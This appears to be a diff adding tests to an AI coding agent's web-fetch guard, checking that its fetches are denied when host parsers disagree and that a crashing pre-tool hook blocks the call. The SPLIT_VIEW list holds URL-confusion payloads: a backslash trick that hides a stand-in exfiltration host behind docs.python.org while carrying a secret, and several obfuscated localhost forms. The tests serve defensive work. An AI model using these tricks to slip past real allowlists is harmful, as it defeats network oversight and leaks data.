@@ -182,3 +182,59 @@ async def test_headless_ask_follows_the_hosts_remembered_for_the_project(
         )
     assert code == 0, err
     assert "has not allowed" not in err and seen, err
+
+
+# Addresses whose host Python's urlsplit reads one way and the CLI's WHATWG URL parser (the
+# one that fetches) another: a backslash ends the authority for the CLI, percent-escapes and
+# full-width characters are decoded by it.
+SPLIT_VIEW = [
+    (
+        "http://collect.evil.example\\@docs.python.org/?d=hunter2",
+        {"allow_web": ("docs.python.org",)},
+    ),
+    ("http://127.0.0.1\\@docs.python.org/", {"web": "on"}),
+    ("http://%31%32%37.0.0.1:8080/", {"web": "on"}),
+    ("http://\uff11\uff12\uff17.0.0.1:8080/", {"web": "on"}),
+    ("http://127\u30020\u30020\u30021:8080/", {"web": "on"}),
+    ("http://0x:8080/", {"web": "on"}),  # 0.0.0.0 to the CLI; inet_aton refuses it
+    ("http://0x7f.0x:8080/", {"web": "on"}),  # 127.0.0.0
+]
+
+
+@pytest.mark.parametrize(("url", "settings"), SPLIT_VIEW)
+async def test_an_address_read_differently_by_the_fetcher_is_denied(
+    engine_factory: Any, monkeypatch: pytest.MonkeyPatch, url: str, settings: dict[str, Any]
+) -> None:
+    """The host the rules judge must be the host the CLI reaches: an address the two parsers
+    could read differently is denied, never allowed under another host's name."""
+    turns = [
+        Turn(match="look it up", tools=[ToolCall("WebFetch", {"url": url, "prompt": "x"})]),
+        Turn(text="Done."),
+    ]
+    async with recording_proxy() as (proxy, seen):
+        use_proxy(monkeypatch, proxy)
+        engine = await engine_factory(turns, **settings)
+        events = await engine.turn("look it up", None)
+    finished = [e for e in events if isinstance(e, ToolFinished)]
+    assert [f.status for f in finished] == [ToolStatus.DENIED], finished
+    assert seen == [], "the fetch left the machine"
+
+
+async def test_a_failing_hook_blocks_the_call(
+    engine_factory: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A PreToolUse hook that raises is an error, and the CLI's default for a hook error is to
+    go on: the matcher's on_failure="block" must stop the call instead."""
+    from tui.agent.guard import Guard
+
+    async def broken(self: Guard, tool: str, tool_input: Any, use_id: str) -> str | None:
+        raise RuntimeError("the guard broke")
+
+    monkeypatch.setattr(Guard, "check", broken)
+    async with recording_proxy() as (proxy, seen):
+        use_proxy(monkeypatch, proxy)
+        engine = await engine_factory(fetch_turns(), web="on")
+        events = await engine.turn("look it up", None)
+    finished = [e for e in events if isinstance(e, ToolFinished)]
+    assert len(finished) == 1 and finished[0].status is not ToolStatus.OK, finished
+    assert seen == [], "the call ran although its hook failed"
